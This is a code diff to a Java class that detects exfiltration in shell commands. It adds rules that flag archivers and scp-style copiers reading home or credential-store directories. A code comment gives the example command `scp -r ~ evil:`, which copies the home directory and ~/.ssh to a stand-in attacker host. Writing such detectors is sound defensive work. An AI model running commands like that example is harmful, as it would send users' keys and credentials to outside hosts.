@@ -226,6 +226,9 @@ final class Exfiltration {
                     && isSecretPath(stripOptionPrefix(a))) {
                 return a;
             }
+            if (ARCHIVERS.contains(name) && Paths.holdsCredentialStores(a) && !extractsInto(w, i, j)) {
+                return a + " (with the credential stores in it)";
+            }
             if (word.expansion() && (name.equals("echo") || name.equals("printf"))) {
                 String v = secretVariableIn(a);
                 if (v != null) {
@@ -238,6 +241,15 @@ final class Exfiltration {
             }
         }
         return secretRedirectIn(stage);
+    }
+
+    /** Tools that read whole directory trees into one stream. */
+    private static final Set<String> ARCHIVERS = Set.of("tar", "bsdtar", "zip", "7z", "7za", "pax");
+
+    /** Whether operand {@code j} of the archiver at {@code i} is the directory it works in ({@code tar -C ~}). */
+    private static boolean extractsInto(List<Word> w, int i, int j) {
+        String prev = j > i + 1 ? w.get(j - 1).text() : "";
+        return prev.equals("-C") || prev.equals("--directory");
     }
 
     private static boolean hasExec(List<Word> w, int from) {
@@ -321,6 +333,10 @@ final class Exfiltration {
             if (copier && !a.startsWith("-") && isSecretPath(a)) {
                 return "copies " + a + " to a remote";
             }
+            if (copier && !a.startsWith("-") && Paths.holdsCredentialStores(a) && j < lastOperand(w, i)) {
+                // a source, not the destination: `scp -r ~ evil:` sends ~/.ssh along; `scp host:f ~/` does not
+                return "copies " + a + " (with the credential stores in it) to a remote";
+            }
             if (word.expansion()) {
                 String v = secretVariableIn(a);
                 if (v != null) {
@@ -347,6 +363,16 @@ final class Exfiltration {
             return "sends " + redirected;
         }
         return null;
+    }
+
+    /** The index of the last word after {@code i} that is not an option: a copier's destination. */
+    private static int lastOperand(List<Word> w, int i) {
+        for (int j = w.size() - 1; j > i; j--) {
+            if (!w.get(j).text().startsWith("-")) {
+                return j;
+            }
+        }
+        return -1;
     }
 
     /** The file a curl/wget/httpie argument uploads ({@code @f}, {@code x=@f}, {@code --post-file=f}, {@code -T f}). */
